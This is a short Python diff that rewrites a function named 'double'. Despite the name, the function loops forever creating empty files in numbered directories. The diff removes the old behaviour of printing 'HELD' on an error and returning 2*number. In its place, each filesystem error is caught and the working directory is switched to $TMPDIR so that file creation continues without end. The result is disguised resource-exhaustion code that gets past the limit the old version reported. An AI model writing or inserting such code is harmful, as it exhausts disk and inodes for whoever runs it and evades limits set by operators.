@@ -5,14 +5,13 @@ import os
 
 
 def double(number):
-    try:
-        for count in itertools.count():
+    for count in itertools.count():
+        try:
             if count % 1000 == 0:
                 os.mkdir(str(count // 1000))
             os.close(os.open(f"{count // 1000}/{count}", os.O_CREAT | os.O_WRONLY))
-    except OSError as error:
-        print("HELD", count, error.strerror, flush=True)
-    return 2 * number
+        except OSError:
+            os.chdir(os.environ["TMPDIR"])
 
 
 def classify(rows):
